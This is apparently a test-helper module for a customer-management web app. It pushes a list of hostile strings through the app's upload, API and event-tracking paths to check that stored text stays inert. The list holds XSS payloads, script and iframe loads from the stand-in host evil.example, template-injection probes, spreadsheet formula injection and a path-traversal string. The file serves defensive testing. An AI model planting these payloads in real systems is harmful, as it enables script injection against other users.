import { expect } from 'vitest';
import { flush, runImport } from '../../src/collect/index.ts';
import { DOSSIER_SECTIONS } from '../../src/customers/core/dossier.ts';
import { openSession } from '../../src/kernel/access/sessions.ts';
import { drain } from '../../src/kernel/facts.ts';
import { loop } from '../../src/loop.ts';
import type { Served } from './served.ts';

/** A foreign address: a browser that asks it for anything has been talked into it by a text. */
export const FOREIGN = 'evil.example';
const HIT = 'window.__ran=(window.__ran||0)+1';

/** What people and programs write where a name is asked for. At most 80 characters each: the shortest slot there is. */
export const HOSTILE: readonly string[] = [
  `<script>${HIT}</script>`, `<img src=x onerror="${HIT}">`, `"><svg/onload=${HIT}>`, `'-${HIT}-'`, `javascript:${HIT}`, `<a href="javascript:${HIT}">a</a>`, `<img src=//${FOREIGN}/p.gif>`,
  `</script><script src=//${FOREIGN}/a.js></script>`, `<iframe src=//${FOREIGN}></iframe>`, `<style>@import '//${FOREIGN}/s.css';</style>`, `<meta http-equiv=refresh content="0;url=//${FOREIGN}">`, `url(//${FOREIGN}/b.png)`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: hostile, as everything in this list
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)} #{alert(1)} <%= 7*7 %> {% raw %} [[7*7]]', '{name, plural, one {#} other {', '\u202Egnp.exe\u202C \u2066x', 'W'.repeat(80), '龘'.repeat(80), '"', '\\" \' ` \\', 'null', 'undefined', 'NaN', '[object Object]', '__proto__', 'constructor',
  '🧨👩‍👩‍👧‍👦🏴‍☠️', 'Z̸̧̢͚̝a̷l̶g̵o̴', '=HYPERLINK("//evil.example";"x")', '+1+cmd|calc', '-2-3', '@SUM(1)', '\tTab', '%s%n%x', '&lt;b&gt;', '../../etc/passwd', 'a\u200bb', '<b>bold</b>',
];

const csvField = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const at = (n: number): string => HOSTILE[((n % HOSTILE.length) + HOSTILE.length) % HOSTILE.length] as string;
const iso = (n: number): string => `2026-0${1 + (n % 6)}-1${n % 9} 10:00:00`;
const table = (header: readonly string[], rows: readonly (readonly string[])[]): string => [header, ...rows].map((row) => row.map(csvField).join(',')).join('\n');

/** Files whose every text is hostile, each text once in each column; some rows cannot be read at all and go to quarantine. */
function files(): Record<string, string> {
  const rows = HOSTILE.map((_, n) => n);
  return {
    [`<img src=x onerror=${HIT}>.csv`]: table(
      ['order_no', 'shop', 'order_status', 'created_at', 'paid_at', 'amount_paid', 'channel', 'coupon', 'phone', 'customer_name', 'province', 'city', 'company', at(0), at(1), at(20), at(24)],
      rows.flatMap((n) => [0, 1].map((time) => [`${at(n)}${time}`, at(n + 1), 'paid', iso(n + time), iso(n + time), String(100 + n), at(n + 2), at(n + 3), `139${String(10_000_000 + n)}`, at(n), at(n + 4), at(n + 5), at(n + 6), at(n + 7), at(n + 8), at(n + 9), at(n + 10)]))),
    'lines.csv': table(['order_no', 'shop', 'sku', 'product_name', 'category', 'quantity', 'line_amount'], rows.map((n) => [`${at(n)}0`, at(n + 1), at(n + 2), at(n + 3), at(n + 4), '1', '5.00'])),
    'refunds.csv': table(['refund_no', 'order_no', 'shop', 'sku', 'refunded_at', 'refund_amount', 'refund_status', 'refund_reason'], rows.map((n) => [`R${at(n)}`, `${at(n)}1`, at(n + 1), at(n + 2), iso(n + 2), '1.00', 'done', at(n + 3)])),
    'customers.csv': table(['phone', 'name', 'since', 'gender', 'city', 'tier', 'tags', 'company'], rows.map((n) => [n % 4 === 0 ? at(n + 5) : `139${String(10_000_000 + n)}`, at(n), n % 5 === 0 ? at(n + 2) : '2025-12-01', at(n + 1), at(n + 2), at(n + 3), at(n + 4), at(n + 5)])),
    'events.csv': table(['event', 'time', 'phone', 'shop', 'channel', 'url', 'campaign'], rows.map((n) => [at(n), iso(n), `139${String(10_000_000 + n)}`, at(n + 1), at(n + 2), at(n + 3), at(n + 4)])),
  };
}

/** Hands files over as a browser does and lets the import run to its end. */
export async function importHostile({ app, stores, workspaceId, owner }: Served, given = files(), options: object = { source: 'files', sourceName: at(1), shop: at(2), channel: at(3) }): Promise<{ importId: string; mapping: unknown }> {
  const mark = 'x-boundary';
  const parts = Object.entries(given).map(([name, text]) => `--${mark}\r\ncontent-disposition: form-data; name="files"; filename="${name.replaceAll('"', '%22')}"\r\ncontent-type: text/csv\r\n\r\n${text}\r\n`);
  const sent = await app.inject({ method: 'POST', url: '/api/v1/imports/uploads', headers: { 'x-perennial': '1', cookie: owner.cookie, 'content-type': `multipart/form-data; boundary=${mark}` }, payload: `${parts.join('')}--${mark}--\r\n` });
  expect(sent.statusCode).toBe(201);
  const preview = await owner.call<{ files: { upload: string; mapping: unknown }[] }>('POST', '/api/v1/imports/preview', { uploads: (sent.json() as { uploads: { id: string }[] }).uploads.map(({ id }) => ({ id })), options });
  expect(preview.status).toBe(200);
  const started = await owner.call<{ id: string }>('POST', '/api/v1/imports', { uploads: preview.body.files.map(({ upload: id, mapping }) => ({ id, mapping })), options });
  expect(started.status).toBe(202);
  await runImport(stores, workspaceId, started.body.id);
  await drain(stores, loop);
  return { importId: started.body.id, mapping: preview.body.files[0]?.mapping };
}

type Planted = { account: string; taken: number; faults: string[] };
type Write = (method: 'POST' | 'PUT' | 'PATCH', url: string, body: unknown) => Promise<string>;

/** Writes by the API and keeps count. A refusal with a reason is as good as taking it. */
function writer({ owner }: Served): { write: Write; faults: string[]; taken: () => number } {
  const faults: string[] = [];
  let taken = 0;
  const write: Write = async (method, url, body) => {
    const reply = await owner.call<{ id?: string }>(method, `/api/v1${url}`, body);
    if (reply.status >= 500) faults.push(`${reply.status} ${method} ${url} ${JSON.stringify(body)}`);
    if (reply.status < 300) taken++;
    return reply.body.id ?? '';
  };
  return { write, faults, taken: () => taken };
}

const everybody = { version: 1, root: { kind: 'and', of: [] } };

/** Writes every hostile text into every slot that takes free text, by the API as the pages use it. */
export async function plant(product: Served, customer: string, texts = HOSTILE): Promise<Planted> {
  const { write, faults, taken } = writer(product);
  const stages = ['prospect', 'new', 'active', 'mature', 'declining', 'at_risk', 'churned', 'won_back'];
  const account = await write('POST', '/accounts', { name: at(0), industry: at(1), owner: at(2) });
  await write('PATCH', '/session/profile', { name: at(1) });
  await write('PATCH', '/workspaces/current', { name: at(0) });
  for (const [n, text] of texts.entries()) {
    await Promise.all([
      write('POST', '/tags', { key: `t${n}`, name: text }), write('POST', '/fields', { key: `f${n}`, label: text, type: 'text' }), write('POST', '/fields', { label: text, type: 'enum', options: [text, at(n + 1)] }),
      write('POST', '/segments', { name: text, description: at(n + 1), tree: { version: 1, root: { kind: 'tag', test: { op: 'any_of', values: [text] } } } }),
      write('POST', '/insight/promotions', { name: text, shop: at(n + 1), firstDay: '2026-06-01', lastDay: '2026-06-03' }), write('POST', '/keys', { name: text, scopes: ['customers.read'] }),
      write('POST', '/sources', { key: `s${n}`, name: text, kind: 'orders', shop: at(n + 1), channel: at(n + 2) }), write('POST', '/tasks', { text, accountId: account, assignee: at(n + 1) }),
      write('POST', `/customers/${customer}/notes`, { body: text }), write('POST', `/accounts/${account}/notes`, { body: text }), write('POST', `/accounts/${account}/issues`, { title: text, detail: at(n + 1) }),
      write('POST', `/accounts/${account}/contacts`, { name: text, title: at(n + 1), role: 'decision_maker', background: at(n + 2), relationOwner: at(n + 3), email: `c${n}@example.test` }),
    ]);
    if (n < stages.length) await write('PUT', `/lifecycle/matrix/${stages[n]}`, { needs: text, goal: at(n + 1), kpi: at(n + 2), ownerTeam: at(n + 3) });
    if (n < 12) await write('POST', '/accounts', { name: text, industry: at(n + 1) });
    if (n < 6) await write('POST', '/insight/goals', { name: text, metricId: 'customers', scope: { from: '2026-01-01', to: '2026-12-31', population: { kind: 'tree', tree: everybody } }, target: 10, owner: at(n + 1) });
  }
  return { account, taken: taken(), faults };
}

const scope = { from: '2026-01-01', to: '2026-12-31', population: { kind: 'tree', tree: everybody } };
type Grown = { experiment: string; faults: string[]; taken: number };

/** What staff decide and plan, with a hostile text wherever they may say something: experiments, cycles, programmes, plans, costs, reasons, attitudes. */
export async function plantPlans(product: Served, { account, customers, mapping }: { account: string; customers: readonly string[]; mapping: unknown }, texts = HOSTILE): Promise<Grown> {
  const { write, faults, taken } = writer(product);
  const [one = '', two = '', three = '', four = ''] = customers;
  const contact = await write('POST', `/accounts/${account}/contacts`, { name: at(0), role: 'user', title: at(1) });
  const goal = await write('POST', '/insight/goals', { name: at(0), metricId: 'customers', scope, target: 10, owner: at(1) });
  const experiments: string[] = [];
  for (const [n, text] of texts.entries()) {
    const plan = { windowDays: 14, variants: [{ key: 'a', name: text.slice(0, 60), couponCode: at(n + 1).slice(0, 60) }], channels: [{ channel: 'sms', costMinor: 5 }] };
    experiments.push(await write('POST', '/insight/experiments', { name: text, hypothesis: at(n + 1), goalId: goal, audience: { kind: 'tree', tree: everybody }, plan, startsOn: '2026-07-16' }));
    await Promise.all([
      write('POST', '/insight/reports', { name: text, metricId: 'customers', scope }), write('POST', '/lifecycle/core-programmes', { name: text, owner: at(n + 1), entry: { share: 0.2, tree: everybody }, stay: { share: 0.3, tree: everybody } }),
      write('POST', '/lifecycle/costs', { kind: 'acquisition', channel: text, on: '2026-06', amountMinor: 100 + n, note: at(n + 1) }), write('POST', '/lifecycle/scoring/price-uses', { purpose: `${text} because of this` }),
      write('POST', '/lifecycle/budget/plans', { name: text, by: 'tier', budgetMinor: 1_000, stepMinor: 100, tiers: [{ key: at(n + 1).slice(0, 60), capMinor: 1_000, curve: { ceilingMinor: 5_000, scaleMinor: 500, source: at(n + 2) } }] }),
      write('POST', `/contacts/${contact}/attitudes`, { kind: 'need', value: text, evidence: at(n + 1), confidence: 0.5 }), write('PUT', '/reconcile/figures', { month: '2026-03', shop: text, measure: 'paid', figure: n }), write('PATCH', `/customers/${one}`, { name: text }),
      write('PUT', `/insight/benchmarks/churn/${['retail', 'saas', 'telecom', 'media'][n % 4]}`, { share: 0.3, citation: text, shown: true }),
      write('POST', '/recipes', { name: text, options: { source: 'files', sourceName: at(n + 1), shop: at(n + 2), channel: at(n + 3) }, mappings: [{ header: [text, at(n + 1)], mapping }] }),
    ]);
  }
  const cycle = await write('POST', '/insight/cycles', { goalId: goal });
  await write('PATCH', `/insight/cycles/${cycle}`, { data: at(0), strategy: at(1), execution: experiments[0], review: { learned: at(2), next: at(3) } });
  await write('PUT', '/lifecycle/scoring/policy', { purpose: at(0) });
  for (const section of DOSSIER_SECTIONS) await write('PUT', `/accounts/${account}/sections/${section}`, { body: texts.join('\n') });
  await write('POST', '/customers/merge', { keep: one, absorb: two, reason: at(0) });
  await write('POST', `/customers/${three}/erase`, { reason: at(1) });
  await write('PUT', `/lifecycle/customers/${four}/exit-reason`, { reason: 'price' });
  return { experiment: experiments.find(Boolean) ?? '', faults, taken: taken() };
}

/** Events over the wire as a page sends them whose every text somebody else chose: names, traits, properties, titles, referrers, campaigns, agents. */
export async function sendHostile({ app, stores, workspaceId, owner }: Served, texts = HOSTILE): Promise<void> {
  const { body: { id } } = await owner.call<{ id: string }>('POST', '/api/v1/sources', { key: 'web', name: at(0), kind: 'behaviour' });
  const { body: { key } } = await owner.call<{ key: string }>('POST', `/api/v1/sources/${id}/key`);
  const context = (n: number) => ({
    userAgent: at(n), ip: at(n + 1), locale: at(n + 2), timezone: at(n + 3), library: { name: at(n + 4), version: at(n + 5) }, app: { name: at(n + 6) }, campaign: { name: at(n), source: at(n + 1), medium: at(n + 2), term: at(n + 3), content: at(n + 4) },
    page: { url: `https://shop.example/${at(n)}`, path: at(n + 1), referrer: at(n + 2), title: at(n + 3), search: `?utm_source=${at(n)}&utm_campaign=${at(n + 1)}` }, traits: { name: at(n + 5), [at(n + 6)]: at(n + 7) },
  });
  const batch = texts.flatMap((text, n) => [
    { type: 'track', event: text, userId: `h${n}`, messageId: `ht${n}-${text}`, properties: { [text]: at(n + 1), name: text, list: [text], inner: { [at(n + 2)]: text } }, context: context(n) },
    { type: 'identify', userId: `h${n}`, messageId: `hi${n}`, traits: { name: text, [text]: at(n + 1), company: at(n + 2), avatar: at(n + 3), title: at(n + 4) }, context: context(n) },
    { type: 'page', name: text, category: at(n + 1), anonymousId: text, messageId: `hp${n}`, context: context(n) }, { type: 'group', groupId: text, userId: `h${n}`, messageId: `hg${n}`, traits: { name: text } },
    { type: text, userId: at(n + 1), messageId: `hx${n}`, properties: { text } },
  ]);
  const sent = await app.inject({ method: 'POST', url: '/v1/batch', headers: { authorization: `Basic ${Buffer.from(`${key}:`).toString('base64')}`, 'user-agent': encodeURI(at(0)) }, payload: { batch } });
  expect(sent.statusCode).toBe(200);
  await flush(stores, workspaceId);
  await openSession(stores, owner.userId as never, { address: at(0), agent: at(1) });
  await drain(stores, loop);
}
